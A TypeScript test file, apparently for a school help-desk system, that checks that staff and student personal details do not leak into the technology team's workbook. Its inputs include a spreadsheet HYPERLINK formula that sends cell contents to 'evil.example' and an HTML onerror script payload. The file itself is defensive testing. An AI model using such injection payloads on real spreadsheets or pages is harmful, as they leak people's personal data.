/** These tests look for everybody's names, addresses and numbers in everything of the technology team's workbook, hidden tabs and all. */
import { Stage } from '../../path/stage';

let stage: Stage;
beforeAll(() => {
  stage = Stage.ready();
});
beforeEach(() => {
  stage.rewind();
});

/** Everything that is in the workbook's file: cells, formulas, notes, hidden tabs, journal and History. */
const everything = (book: 'techTeam' | 'staff' = 'techTeam'): string => JSON.stringify(stage.workspace.workbooks.snapshot(stage.bookId(book)));

const NAME = 'Zebulon Quillfeather';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Zebulon Quillfeather")';

/** What must stand nowhere: of everybody on the roster the address and, for those whom tickets are about, every fact. */
function secrets(): readonly string[] {
  const { child, childDevice } = stage.district.cast;
  const everybody = stage.rows('staff', 'People').flatMap((row) => [row['E-mail'], row['Person ID'], row['Student number']].map(String));
  return [
    // Shorter ones stand in commit ids by chance.
    ...everybody.filter((text) => text.length > 5),
    ...[NAME, 'Zebulon', 'evil.example', 'HYPERLINK', 'familia@casa.example', '555-0100', 'La pantalla', child.familyName, child.studentNumber, childDevice.serialNumber],
  ];
}

it('no name, address, number or typed word of anybody stands in the workbook, before or after results flowed back', () => {
  const me = stage.classmates()[3];
  stage.desk('team.add', { click: stage.click(), student: me?.studentNumber ?? '', className: '7B' });
  for (const description of ['La pantalla está rota', `${NAME} broke it, call 555-0100`, FORMULA, '+1 555-0100', '<img src=x onerror=alert(1)>']) {
    stage.sendUnchecked({ description, school: NAME, studentName: NAME, device: NAME, phone: '555-0100', email: 'familia@casa.example' });
    stage.send({ description, phone: '555-0100', device: '' });
    stage.pass(60_000);
  }
  stage.runJob('intake');
  stage.runJob('queue');
  const shown = stage.rows('techTeam', 'Queue');
  expect(shown.length).toBeGreaterThanOrEqual(2);
  const check = (): void => {
    const all = everything();
    expect(all).toContain(String(shown[0]?.['Ticket']));
    expect(secrets().filter((secret) => secret !== stage.owner && all.includes(secret))).toEqual([]);
  };
  check();
  // What is looked for is there to be found: the Staff workbook has all of it.
  const staff = everything('staff');
  expect(secrets().filter((secret) => !staff.includes(secret))).toEqual([]);
  const ticket = String(shown[0]?.['Ticket']);
  const hands = stage.hands('techTeam', me?.email);
  hands.type(stage.cellOf('techTeam', 'Queue', ticket, 'Taken by'), 'Tech 01');
  hands.type(stage.cellOf('techTeam', 'Queue', ticket, 'What we did'), 'fixed it');
  hands.type(stage.cellOf('techTeam', 'Queue', ticket, 'Note for staff'), '=1+1');
  stage.runJob('queue');
  expect(stage.tickets().find((row) => row['Ticket'] === ticket)).toMatchObject({ State: 'resolved' });
  stage.runJob('mail');
  stage.runJob('queue');
  check();
});

it('a badge, class or school that staff overwrite with a name does not reach the team', () => {
  stage.desk('team.add', { click: stage.click(), student: stage.classmates()[3]?.studentNumber ?? '', className: '7B' });
  stage.desk('team.add', { click: stage.click(), student: stage.classmates()[4]?.studentNumber ?? '', className: '7B' });
  const hands = stage.hands('staff');
  const cell = (member: string, header: string): string => stage.cellOf('staff', 'Team members', member, header).replace(/^(.*)!/, "'$1'!");
  hands.type(cell('TM-1', 'Badge'), NAME);
  hands.type(cell('TM-2', 'Class'), NAME);
  stage.runJob('queue');
  expect(stage.rows('techTeam', 'Members')).toMatchObject([{ Badge: 'Tech 02', Class: '' }]);
  expect(everything()).not.toContain('Zebulon');
});
